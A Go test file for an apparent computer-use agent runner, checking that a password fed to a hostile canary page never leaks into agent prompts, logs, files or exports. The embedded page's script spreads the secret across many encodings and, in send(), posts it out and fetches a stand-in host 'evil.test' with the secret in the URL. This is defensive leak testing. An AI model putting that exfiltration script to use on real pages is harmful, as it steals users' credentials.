package main

import (
	"bytes"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/cua-runner/cua-runner/cua/redact"
)

// canaryPage is given a secret on its own origin, and shows it again in every place and spelling that it can
// think of. It counts what it did in the title of the server's answer, so that the test can fail.
const canaryPage = `<!doctype html><meta charset=utf-8><title>start</title><link rel=icon href=data:,>
<form action=/sent><label>Password <input type=password name=p oninput="quiet()"></label>
<label>Copy <input name=copy></label><label>Note <textarea name=note></textarea></label>
<label>Choice <select name=choice><option>none</option></select></label>
<button type=button onclick=mirror()>mirror</button><button type=button onclick="alert(all())">alert</button>
<button type=button onclick="prompt(v(), all())">prompt</button><button type=button onclick=send()>send</button>
<button>submit</button></form><div id=out></div><p role=alert id=note></p>
<script>
const v = () => document.querySelector('[name=p]').value;
const b64 = s => btoa(unescape(encodeURIComponent(s)));
const hex = s => [...new TextEncoder().encode(s)].map(b => b.toString(16).padStart(2, '0')).join('');
const all = () => [v(), b64(v()), b64('x' + v()), b64('xy' + v() + 'z'), hex(v()), hex(v()).toUpperCase(),
  [...v()].reverse().join(''), encodeURIComponent(v()), encodeURIComponent(encodeURIComponent(v())), JSON.stringify(v()),
  JSON.stringify(JSON.stringify(v())), v().replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;'),
  [...v()].map(c => '&#' + c.codePointAt(0) + ';').join(''),
  [...v()].map(c => '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')).join(''),
  v().toUpperCase()].join(' | ');
function quiet() { document.title = 'got ' + v(); }
function mirror() {
  const [copy, note, choice] = ['copy', 'note', 'choice'].map(n => document.querySelector('[name=' + n + ']'));
  document.title = all(); out.textContent = all(); document.querySelector('#note').textContent = 'Wrong: ' + v();
  document.querySelector('[name=p]').type = 'text';
  copy.value = v(); copy.placeholder = all(); copy.setAttribute('aria-label', all()); copy.id = v(); note.value = all();
  choice.options[0].textContent = v(); choice.add(new Option(all()));
  document.forms[0].action = '/sent/' + encodeURIComponent(v()) + '#' + v(); document.forms[0].name = v();
  for (const s of all().split(' | ')) {
    out.insertAdjacentHTML('beforeend', '<button type=button></button><a></a><h2></h2>');
    const [b, a, h] = [...out.children].slice(-3);
    b.textContent = s; b.title = s; b.name = s; a.textContent = s; a.href = '/?' + encodeURIComponent(s); h.textContent = s; h.id = s;
  }
  history.pushState({}, '', '/?q=' + encodeURIComponent(v()) + '&b=' + encodeURIComponent(b64(v())) + '#' + encodeURIComponent(v()));
  console.log(all()); console.error(v()); localStorage.setItem(v(), all()); sessionStorage.setItem('k', all());
  document.cookie = 'c=' + encodeURIComponent(v());
  customElements.define('x-' + hex(v()), class extends HTMLElement {}); out.append(document.createElement('x-' + hex(v())));
  window.name = v();
}
function send() {
  fetch('/data?q=' + encodeURIComponent(v()), {method: 'POST', headers: {'X-Canary': b64(v())}, body: all()}).catch(() => {});
  fetch('http://' + hex(v()).slice(0, 60) + '.evil.test/' + encodeURIComponent(v())).catch(() => {});
  const f = document.createElement('iframe'); f.src = 'http://127.0.0.1:1/?' + encodeURIComponent(v()); f.name = v(); document.body.append(f);
  setTimeout(() => { throw new Error(all()) }, 0);
}
</script>`

// The secret itself has what each spelling escapes.
const canaryValue = `c4n"a&ry/ü<+ %7>x`

// A page that was given a secret tells it to nobody through us: not to the brain, the disk, the terminal, an
// export, or the process list.
func TestCanary(t *testing.T) {
	brain, err := filepath.Abs("testdata/canary_brain.py")
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range []struct{ name, browser string }{
		{"headless shell", "/usr/bin/chromium-headless-shell"}, {"full Chromium", "/usr/bin/chromium"},
	} {
		t.Run(row.name, func(t *testing.T) {
			if _, err := os.Stat(row.browser); err != nil || os.Getenv("CUA_BROWSER") != "" {
				row.browser = "" // the one that is there
			}
			var posted []string
			ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.Method == http.MethodPost {
					posted = append(posted, r.URL.Query().Get("q"))
				}
				w.Header().Set("Content-Type", "text/html")
				if r.URL.Path != "/" {
					fmt.Fprintf(w, "<!doctype html><title>sent</title>%q", r.URL.Query()["p"])
					return
				}
				fmt.Fprint(w, canaryPage)
			}))
			t.Cleanup(ts.Close)
			dir := t.TempDir()
			sent, run := filepath.Join(dir, "sent"), filepath.Join(dir, "run")
			t.Setenv("CANARY_VALUE", canaryValue)
			args := []string{"run", ts.URL + "/", "--goal", "Sign in.", "--field", "Password=<secret:CANARY>",
				"--secret", "CANARY=env:CANARY_VALUE", "--brain", "exec:python3 " + brain + " " + sent,
				"--out", run, "--har", filepath.Join(run, "run.har"), "--arm", "off", "--browser", row.browser}
			code, stdout, stderr := command(t, args...)
			if code == exitUsage || code == exitInfra || len(posted) == 0 || posted[0] != canaryValue {
				t.Fatalf("exit code %d, the page sent %q: %s %s", code, posted, stdout, stderr)
			}
			found := &canarySearch{t: t}
			found.in("standard output", []byte(stdout))
			found.in("standard error", []byte(stderr))
			found.inFiles(dir)
			for _, format := range exportFormats() {
				out := filepath.Join(dir, "export-"+format)
				code, stdout, stderr := command(t, "export", run, "--format", format, "--out", out)
				if code != exitOK {
					t.Errorf("export %s: %d: %s %s", format, code, stdout, stderr)
				}
				found.inFiles(out)
			}
			for _, more := range [][]string{{"show", run}, {"show", run, "--step", "3"}, {"replay", run},
				{"check", run, "--secret", "CANARY=env:CANARY_VALUE"}} {
				code, stdout, stderr := command(t, more...)
				found.in(strings.Join(more[:1], " "), []byte(stdout+stderr))
				if more[0] == "check" && strings.Contains(stdout, "the value of <secret:CANARY>") {
					t.Errorf("check: %d: %s", code, stdout)
				}
			}
			found.canFail(sent)
		})
	}
}

// canarySearch looks for the secret in every spelling, also in letters of another case.
type canarySearch struct {
	t     *testing.T
	bytes int
}

func (c *canarySearch) in(what string, text []byte) {
	c.t.Helper()
	c.bytes += len(text)
	lower := bytes.ToLower(text)
	for _, s := range redact.Spellings(canaryValue) {
		if i := bytes.Index(lower, bytes.ToLower([]byte(s.Text))); i >= 0 && s.Text != "" {
			c.t.Errorf("%s holds the secret %s: …%q…", what, s.How,
				text[max(0, i-80):min(len(text), i+80)])
		}
	}
	clean := redact.New(map[string]string{"CANARY": canaryValue}).Text(string(text))
	if clean != string(text) {
		i := 0
		for i < len(clean) && clean[i] == text[i] {
			i++
		}
		c.t.Errorf("%s holds the secret in some spelling: …%q…", what,
			text[max(0, i-80):min(len(text), i+120)])
	}
}

func (c *canarySearch) inFiles(path string) {
	c.t.Helper()
	err := filepath.WalkDir(path, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(path)
		if kind := http.DetectContentType(text); strings.HasPrefix(kind, "image/") {
			return err // pictures are tested elsewhere
		}
		c.in(path, text)
		return err
	})
	if err != nil {
		c.t.Error(err)
	}
}

// canFail reports whether there was something to find: the brain was sent the page, with marks where the
// secret was, in titles, texts and what it extracted.
func (c *canarySearch) canFail(sent string) {
	c.t.Helper()
	text, err := os.ReadFile(sent)
	if err != nil {
		c.t.Fatal(err)
	}
	plain := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">").Replace(string(text))
	if n := strings.Count(plain, "<secret:CANARY>"); n < 100 || c.bytes < 100_000 ||
		!strings.Contains(plain, "<secret:CANARY> | ") ||
		!strings.Contains(plain, "Wrong: <secret:CANARY>") {
		c.t.Errorf("the brain was sent %d marks, and %d bytes were searched", n, c.bytes)
	}
}
